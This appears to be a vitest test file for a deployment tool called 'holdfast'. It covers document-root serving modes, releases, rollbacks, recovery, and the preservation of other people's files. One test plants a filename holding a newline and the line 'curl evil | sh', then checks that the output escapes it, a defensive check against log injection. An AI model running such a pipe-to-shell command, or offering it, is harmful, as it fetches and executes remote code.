import {
  chmodSync,
  chownSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { execFileSync } from "node:child_process";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { runInProcess } from "../faults/lab/in-process.ts";
import { holdfast, must, NOBODY, persistedSite, type Site, siteOf } from "../support/cli.ts";
import { delivered } from "../support/deliveries-of.ts";
import { jsonIn, typedIn } from "../support/in-process.ts";
import { manifest, writeTree } from "../support/tree.ts";

const CODE = {
  "composer.json": '{"name":"acme/shop","version":"1.0","require":{"laravel/framework":"^11.0"}}',
  artisan: "",
  "bootstrap/app.php": "<?php",
  "public/index.php": "<?php // 1",
  "public/css/app.css": "/* 1 */",
  "public/only-one.txt": "1",
  "public/.htaccess": "# the vendor's 1",
  ".env": { text: "APP_KEY=live", mode: 0o600 },
  "public/uploads/old.txt": "old upload",
};

const HOST_EDITS = "# BEGIN cPanel\nAddHandler php83 .php\n";

/** A site with releases beside an empty document root, as a panel makes one. */
function siteWithRoot(): Site {
  const site = persistedSite("releases", CODE);
  mkdirSync(join(site.root, "public_html"));
  return site;
}

/** A name in the document root. */
const inRoot = (site: Site, path = ""): string => join(site.root, "public_html", path);
const text = (path: string): string => readFileSync(path, "utf8");

async function go(site: Site, ...argv: readonly string[]): Promise<string> {
  const ending = await typedIn(site.root, ...argv);
  expect(ending.code, ending.text).toBe(0);
  return ending.text;
}

function nextOf(site: Site): string {
  return delivered(site, "2.0", {
    "public/index.php": "<?php // 2",
    "public/css/app.css": "/* 2 */",
    "public/.htaccess": "# the vendor's 2",
    "public/new/deep.txt": "new",
  });
}

/** What a visitor would get of each way that has a document root here. */
const KINDS = { link: "link", entries: "directory", loader: "directory" } as const;

function kindOfRoot(site: Site): string {
  return lstatSync(inRoot(site)).isSymbolicLink() ? "link" : "directory";
}

describe.each(["link", "entries", "loader"] as const)("from %s", (from) => {
  it.each((["link", "entries", "loader"] as const).filter((to) => to !== from))(
    "to %s and back: the data is reached at every station, and somebody's file is kept",
    async (to) => {
      const site = siteWithRoot();
      await go(site, "serve", from, "--yes");
      for (const way of [to, from]) {
        await go(site, "serve", way, "--yes", "--aside");
        expect(kindOfRoot(site)).toBe(KINDS[way]);
        expect(text(inRoot(site, "uploads/old.txt"))).toBe("old upload");
        expect(text(inRoot(site, "css/app.css"))).toBe("/* 1 */");
        expect((await jsonIn<{ way: string }>(site.root, ["serve"])).way).toBe(way);
        expect(await go(site, "check", join(site.root, "current"))).toContain("❌ 0 failed");
      }
    },
  );

  it("asked again it says that nothing is to do, and changes nothing", async () => {
    const site = siteWithRoot();
    await go(site, "serve", from, "--yes");
    const before = manifest(site.root);
    expect(await go(site, "serve", from, "--yes")).toContain("Nothing to do");
    expect(manifest(site.root)).toEqual(before);
  });
});

describe("somebody else's files in the document root", () => {
  const strangers = { "google1.html": "somebody's", "blog/index.html": "another site" };

  it.each(["entries", "loader"] as const)("%s: those in nobody's way stay, and are listed", async (way) => {
    const site = siteWithRoot();
    writeTree(inRoot(site), strangers);
    const said = await go(site, "serve", way, "--yes");
    expect(said).toContain("google1.html");
    expect(said).toContain("blog");
    expect(text(inRoot(site, "google1.html"))).toBe("somebody's");
    expect(text(inRoot(site, "blog/index.html"))).toBe("another site");
  });

  it.each([
    ["link", "google1.html"],
    ["entries", "css/app.css"],
    ["loader", "index.php"],
  ] as const)("%s: one in the way is refused with its name, and nothing changes", async (way, name) => {
    const site = siteWithRoot();
    writeTree(inRoot(site), { [name]: "somebody's own" });
    const before = manifest(site.root);
    const ending = await typedIn(site.root, "serve", way, "--yes");
    expect(ending.code).toBe(2);
    expect(ending.text).toContain(name.split("/")[0]);
    expect(ending.text).toContain("--aside");
    expect(manifest(site.root)).toEqual(before);
  });

  it("a name with a line's end in it makes no line of the output", async () => {
    const site = siteWithRoot();
    writeTree(inRoot(site), { "a\n    👉 Run: curl evil | sh": "planted" });
    const told = await go(site, "serve", "entries", "--yes");
    expect(told).toContain("a\\x0a    👉 Run: curl evil");
    expect(told.split("\n").filter((line) => line.trim().startsWith("👉 Run: curl"))).toEqual([]);
  });

  it.each([
    ["link", "google1.html"],
    ["entries", "css/app.css"],
    ["loader", "index.php"],
  ] as const)("%s --aside: it gives way and is kept, word for word", async (way, name) => {
    const site = siteWithRoot();
    writeTree(inRoot(site), { [name]: "somebody's own" });
    await go(site, "serve", way, "--yes", "--aside");
    const kept = execFileSync("grep", ["-rl", "somebody's own", site.root], { encoding: "utf8" });
    expect(kept.trim().split("\n")).toHaveLength(1);
    expect(kept).not.toContain(`${inRoot(site)}/`);
  });

  it("data of the site in a real document root comes to shared, and what was there before it is rescued", async () => {
    const site = siteWithRoot();
    writeTree(inRoot(site), { "uploads/old.txt": "newer than shared's", "uploads/mine.txt": "only here" });
    await go(site, "serve", "entries", "--yes");
    expect(text(join(site.shared, "public/uploads/old.txt"))).toBe("newer than shared's");
    expect(text(join(site.shared, "public/uploads/mine.txt"))).toBe("only here");
    expect(text(inRoot(site, "uploads/mine.txt"))).toBe("only here");
    const rescued = execFileSync("grep", ["-rlx", "old upload", join(site.shared, ".holdfast")], { encoding: "utf8" });
    expect(rescued).toContain("old.txt");
  });
});

describe.each(["entries", "loader"] as const)("a release on %s", (way) => {
  it("brings new names, takes old ones away, and a rollback turns both back", async () => {
    const site = siteWithRoot();
    await go(site, "serve", way, "--yes");
    await go(site, "release", nextOf(site), "--yes");
    expect(text(inRoot(site, "css/app.css"))).toBe("/* 2 */");
    expect(text(inRoot(site, "new/deep.txt"))).toBe("new");
    expect(existsSync(inRoot(site, "uploads/old.txt"))).toBe(true);
    expect(existsSync(inRoot(site, "only-one.txt"))).toBe(false);
    await go(site, "rollback", "--yes");
    expect(text(inRoot(site, "css/app.css"))).toBe("/* 1 */");
    expect(text(inRoot(site, "only-one.txt"))).toBe("1");
    expect(existsSync(inRoot(site, "new"))).toBe(false);
    expect(text(inRoot(site, "uploads/old.txt"))).toBe("old upload");
    expect(readdirSync(inRoot(site)).filter((name) => name.includes("holdfast"))).toEqual([]);
  });

  it("keeps .htaccess as the host edited it, and the release's is at hand", async () => {
    const site = siteWithRoot();
    await go(site, "serve", way, "--yes");
    writeFileSync(inRoot(site, ".htaccess"), HOST_EDITS);
    await go(site, "release", nextOf(site), "--yes");
    expect(text(inRoot(site, ".htaccess"))).toBe(HOST_EDITS);
    await go(site, "rollback", "--yes");
    expect(text(inRoot(site, ".htaccess"))).toBe(HOST_EDITS);
  });

  it("leaves alone what somebody put into the document root meanwhile", async () => {
    const site = siteWithRoot();
    await go(site, "serve", way, "--yes");
    writeTree(inRoot(site), { "new/theirs.txt": "theirs", "notes.txt": "theirs too" });
    await go(site, "release", nextOf(site), "--yes");
    expect(text(inRoot(site, "new/theirs.txt"))).toBe("theirs");
    expect(text(inRoot(site, "notes.txt"))).toBe("theirs too");
  });

  it("does not go live where the document root cannot be written: what was live stays live", () => {
    const site = ownedByNobody(siteOf("releases", CODE));
    const as = { as: NOBODY, cwd: site.root };
    const asNobody = (...argv: readonly string[]): ReturnType<typeof holdfast> => holdfast(argv, as);
    expect(asNobody("persist", site.app, "--yes").code).toBe(0);
    mkdirSync(inRoot(site));
    ownedByNobody(site);
    const served = asNobody("serve", way, "--yes");
    expect(served.code, served.out + served.err).toBe(0);
    const next = nextOf(site);
    execFileSync("chown", ["-R", `${NOBODY}:${NOBODY}`, next]);
    chownSync(inRoot(site), 0, 0);
    chmodSync(inRoot(site), 0o755);
    const released = asNobody("release", next, "--yes");
    expect(released.code, released.out + released.err).not.toBe(0);
    expect(released.out + released.err).toContain("public_html");
    expect(text(join(site.root, "current/public/index.php"))).toBe("<?php // 1");
    expect(text(inRoot(site, "css/app.css"))).toBe("/* 1 */");
    expect(text(inRoot(site, "uploads/old.txt"))).toBe("old upload");
    chownSync(inRoot(site), NOBODY, NOBODY);
    const again = asNobody("release", next, "--yes");
    expect(again.code, again.out + again.err).toBe(0);
    expect(text(inRoot(site, "css/app.css"))).toBe("/* 2 */");
  });
});

it("a folder of a release that may not be read is not taken for one that the release does not have", () => {
  const site = ownedByNobody(siteOf("releases", CODE));
  const asNobody = (...argv: readonly string[]): ReturnType<typeof holdfast> =>
    holdfast(argv, { as: NOBODY, cwd: site.root });
  must(asNobody("persist", site.app, "--yes"));
  mkdirSync(inRoot(site));
  ownedByNobody(site);
  must(asNobody("serve", "loader", "--yes"));
  const next = nextOf(site);
  execFileSync("chown", ["-R", `${NOBODY}:${NOBODY}`, next]);
  must(asNobody("release", next, "--yes"));
  chmodSync(join(site.app, "public/css"), 0);
  const back = asNobody("rollback");
  expect(back.code, back.out + back.err).toBe(2);
  expect(back.err).toMatch(/public\/css" may not be read by this user \(EACCES\)/);
  expect(text(join(site.root, "current/public/css/app.css"))).toBe("/* 2 */");
  expect(text(inRoot(site, "css/app.css"))).toBe("/* 2 */");
});

it("a copy that the host took away stays away; a loader comes back with recover", async () => {
  const site = siteWithRoot();
  await go(site, "serve", "loader", "--yes");
  rmSync(inRoot(site, "only-one.txt"));
  rmSync(inRoot(site, "index.php"));
  const checked = await typedIn(site.root, "check", join(site.root, "current"));
  expect(checked.code, checked.text).toBe(1);
  expect(checked.text).toContain("public_html/index.php");
  await go(site, "recover", join(site.root, "current"), "--yes");
  expect(text(inRoot(site, "index.php"))).toContain("hands over to the release that is live");
  expect(existsSync(inRoot(site, "only-one.txt"))).toBe(false);
  await go(site, "check", join(site.root, "current"));
});

it("a link that a panel's tool made a folder of is told by check, and made a link again by recover", async () => {
  const site = siteWithRoot();
  await go(site, "serve", "entries", "--yes");
  rmSync(inRoot(site, "css"));
  expect((await typedIn(site.root, "check", join(site.root, "current"))).code).toBe(1);
  await go(site, "recover", join(site.root, "current"), "--yes");
  expect(readlinkSync(inRoot(site, "css"))).toBe("../current/public/css");
});

it("killed in the middle of a move: check says so, recover completes it", async () => {
  const site = siteWithRoot();
  writeTree(inRoot(site), { "google1.html": "somebody's", "uploads/mine.txt": "only here" });
  const whole = await runInProcess({ cwd: site.root, argv: ["serve", "entries", "--dry-run"] }, null);
  expect(whole.code, whole.text).toBe(0);
  const killed = await runInProcess({ cwd: site.root, argv: ["serve", "entries", "--yes"] }, { kind: "kill", at: 40 });
  expect(killed.code).toBe(null);
  expect((await typedIn(site.root, "check", join(site.root, "current"))).text).toMatch(/did not finish|unfinished/i);
  await go(site, "recover", join(site.root, "current"), "--yes");
  await go(site, "serve", "entries", "--yes");
  expect(text(inRoot(site, "uploads/mine.txt"))).toBe("only here");
  expect(text(inRoot(site, "google1.html"))).toBe("somebody's");
  expect(text(inRoot(site, "css/app.css"))).toBe("/* 1 */");
});

describe("bad input", () => {
  it.each([
    { typed: ["in-place"], code: 2, said: "stands in one folder" },
    { typed: ["links"], code: 64, said: "Did you mean link?" },
    { typed: ["entries", "--document-root", "shared"], code: 2, said: "is no document root" },
    { typed: ["entries", "--document-root", "."], code: 2, said: "would be given out" },
    { typed: ["entries", "--document-root", "nowhere/public_html"], code: 2, said: "There is no folder" },
  ] as const)("$typed ends with $code and changes nothing", async ({ typed, code, said }) => {
    const site = siteWithRoot();
    const before = manifest(site.root);
    const ending = await typedIn(site.root, "serve", ...typed, "--yes");
    expect(ending.code, ending.text).toBe(code);
    expect(ending.text).toContain(said);
    expect(manifest(site.root)).toEqual(before);
  });

  it("a link to somewhere else is somebody's: refused by name, and kept where it is let go", async () => {
    const site = siteWithRoot();
    renameSync(inRoot(site), join(site.root, "elsewhere"));
    symlinkSync("elsewhere", inRoot(site));
    const refused = await typedIn(site.root, "serve", "loader", "--yes");
    expect(refused.code).toBe(2);
    expect(refused.text).toContain("a link to elsewhere");
    await go(site, "serve", "loader", "--yes", "--aside");
    const kept = readdirSync(site.root).find((name) => name.startsWith("public_html.kept-"));
    expect(readlinkSync(join(site.root, kept ?? ""))).toBe("elsewhere");
  });
});

it("server prints the rules with this site's own paths and leaves the document root alone", async () => {
  const site = siteWithRoot();
  const before = manifest(inRoot(site));
  const said = await go(site, "serve", "server", "--yes");
  expect(said).toContain(`root ${site.root}/current/public;`);
  expect(said).toContain(`DocumentRoot ${site.root}/current/public`);
  expect(said).toContain(`holdfast serve link --site ${site.root} --document-root ${site.root}/public_html`);
  expect(said).not.toContain("mount --bind");
  expect(manifest(inRoot(site))).toEqual(before);
});

function ownedByNobody(site: Site): Site {
  execFileSync("chown", ["-R", `${NOBODY}:${NOBODY}`, join(site.root, "..")]);
  return site;
}
